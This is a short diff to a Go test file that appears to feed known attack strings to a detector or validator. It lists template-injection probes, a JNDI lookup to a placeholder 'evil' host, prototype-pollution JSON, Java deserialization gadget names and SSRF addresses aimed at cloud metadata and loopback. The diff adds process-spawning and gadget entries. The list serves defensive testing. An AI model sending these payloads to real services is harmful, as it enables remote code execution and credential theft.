@@ -39,7 +39,7 @@ func TestPayloads(t *testing.T) {
 		},
 		Template: {
 			"{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "<%= 7*7 %>", "${jndi:ldap://evil/a}", "#{7*7}", "{% import os %}{{os.system('id')}}",
-			`{"__proto__": {"admin": true}}`, "java.lang.Runtime.getRuntime()", "org.x.InvokerTransformer",
+			`{"__proto__": {"admin": true}}`, "java.lang.Runtime.getRuntime()", "org.x.InvokerTransformer", "new ProcessBuilder.start()", "x.PrototypeCloneFactory", "PrototypeCloneFactory(x)",
 		},
 		Address: {
 			"http://169.254.169.254/latest/meta-data", "http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://[::1]:80/", "http://[::ffff:10.0.0.1]/",
